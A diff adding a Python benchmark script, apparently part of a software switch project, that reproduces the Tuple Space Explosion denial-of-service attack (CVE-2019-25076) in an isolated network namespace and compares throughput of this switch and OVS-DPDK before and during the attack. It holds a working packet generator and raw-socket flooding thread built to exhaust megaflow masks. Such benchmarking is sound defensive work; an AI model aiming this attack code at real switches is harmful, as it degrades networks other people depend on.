@@ -1,0 +1,128 @@
+#!/usr/bin/env python3
+"""The attack on tuple space search (Tuple Space Explosion, CVE-2019-25076), on this switch and on Open vSwitch with DPDK.
+
+Port 1 brings ordinary traffic as fast as it goes. Port 3 brings an attacker's packets, ten thousand a second, whose headers differ from what
+"allow some, drop the rest" rules allow in every combination of leading bits, so that each makes a megaflow of another mask. Prints the ordinary
+traffic's rate before and during the attack. Runs in a network namespace of its own (unshare -n).
+"""
+import argparse
+import datetime
+import os
+import random
+import re
+import socket
+import statistics
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+import forward
+
+ACLS = {
+    "destination port": ["udp,tp_dst=53", "tcp,tp_dst=80"],
+    "source address and ports": ["ip,nw_src=10.0.0.1", "udp,tp_dst=53", "udp,tp_src=4000", "tcp,tp_dst=80"],
+    "addresses and ports": ["ip,nw_src=10.0.0.1", "ip,nw_dst=10.128.0.1", "udp,tp_dst=53", "udp,tp_src=4000", "tcp,tp_dst=80", "tcp,tp_src=4000"],
+}
+
+
+def attack_packets(count):
+    """Packets that agree with the allowed values in their first bits and differ in the next, for random numbers of bits."""
+    chance = random.Random(3)
+
+    def near(value, width):
+        bit = chance.randrange(width)
+        return (value ^ 1 << (width - 1 - bit)) & ~((1 << (width - 1 - bit)) - 1) | chance.getrandbits(width - 1 - bit) if bit < width - 1 else value ^ 1
+
+    for _ in range(count):
+        source, destination = near(0x0A000001, 32), near(0x0A800001, 32)
+        proto = chance.choice((6, 17))
+        ip = bytearray(bytes.fromhex("4500002e00000000") + bytes([64, proto, 0, 0]) + source.to_bytes(4, "big") + destination.to_bytes(4, "big"))
+        ip[10:12] = forward.checksum(bytes(ip)).to_bytes(2, "big")
+        ports = near(4000, 16).to_bytes(2, "big") + near(53 if proto == 17 else 80, 16).to_bytes(2, "big")
+        transport = ports + (bytes([0, 26, 0, 0]) + bytes(18) if proto == 17 else bytes(8) + bytes([0x50, 2]) + bytes(12))
+        yield bytes.fromhex("0200000000020200000000010800") + bytes(ip) + transport[:26]
+
+
+class Attacker(threading.Thread):
+    def __init__(self, interface, packets, rate):
+        super().__init__(daemon=True)
+        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        self.socket.bind((interface, 0))
+        self.packets, self.rate, self.sent, self.over = packets, rate, 0, False
+
+    def run(self):
+        start = time.monotonic()
+        while not self.over:
+            due = min(int((time.monotonic() - start) * self.rate), self.sent + 200)
+            while self.sent < due:
+                try:
+                    self.socket.send(self.packets[self.sent % len(self.packets)])
+                except OSError:
+                    pass
+                self.sent += 1
+            time.sleep(0.001)
+
+
+def measure(command, capture, allowed, packets, rate, seconds):
+    with tempfile.NamedTemporaryFile("w", suffix=".txt") as flows:
+        for rule in allowed:
+            flows.write(f"priority=100,{rule},actions=output:2\n")
+        flows.write("priority=1,actions=drop\n")
+        flows.flush()
+        switch = forward.Switch(command, capture, flows.name)
+    try:
+        subprocess.run(["ip", "link", "add", "attack0", "type", "veth", "peer", "name", "attack1"], check=True)
+        for name in ("attack0", "attack1"):
+            subprocess.run(["ip", "link", "set", name, "up"], check=True)
+        switch.port(3, "net_af_packet0,iface=attack0")
+        time.sleep(2)
+        before = statistics.median(switch.rate(1) for _ in range(3))
+        attacker = Attacker("attack1", packets, rate)
+        attacker.start()
+        time.sleep(seconds)
+        during = statistics.median(switch.rate(1) for _ in range(3))
+        attacker.over = True
+        attacker.join()
+        m = re.search(r"flows: (\d+)", switch.appctl("dpctl/show"))
+        return before, during, int(m.group(1)) if m else 0, attacker.sent
+    finally:
+        subprocess.run(["ip", "link", "del", "attack0"], stderr=subprocess.DEVNULL)
+        switch.stop()
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--vswitchd", required=True)
+    parser.add_argument("--rate", type=int, default=10_000, help="the attacker's packets per second")
+    parser.add_argument("--seconds", type=float, default=6, help="how long the attack goes before the rate is taken")
+    parser.add_argument("--output")
+    arguments = parser.parse_args()
+    if os.environ.get("VSWITCH_OWN_NETWORK") != "1":
+        os.execvpe("unshare", ["unshare", "-n", sys.executable, *sys.argv], dict(os.environ, VSWITCH_OWN_NETWORK="1"))
+    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
+    packets = list(attack_packets(100_000))
+    lines = ["| rules allow by | switch | before, Mpps | attacked, Mpps | left | megaflows | attack packets |", "|---|---|---:|---:|---:|---:|---:|"]
+    with tempfile.TemporaryDirectory() as directory:
+        capture = f"{directory}/traffic.pcap"
+        forward.write_capture(capture, 1000)
+        for title, allowed in ACLS.items():
+            for name, command in (("this switch", os.path.abspath(arguments.vswitchd)), ("OVS-DPDK", forward.OVS)):
+                before, during, flows, sent = measure(command, capture, allowed, packets, arguments.rate, arguments.seconds)
+                lines.append(f"| {title} | {name} | {before / 1e6:.1f} | {during / 1e6:.1f} | {100 * during / before:.0f} % | {flows} | {sent} |")
+                print(lines[-1], flush=True)
+    table = "\n".join(lines)
+    if arguments.output:
+        with open(arguments.output, "w") as f:
+            f.write(f"""## Under attack
+
+Ordinary traffic (1,000 flows to UDP port 53, endless) before and during a Tuple Space Explosion (CVE-2019-25076) of {arguments.rate} packets a
+second on another port of the same polling thread; `Benchmarks/explosion.py`, {datetime.date.today()}; {forward.machine()}.
+
+{table}
+""")
+
+
+if __name__ == "__main__":
+    main()
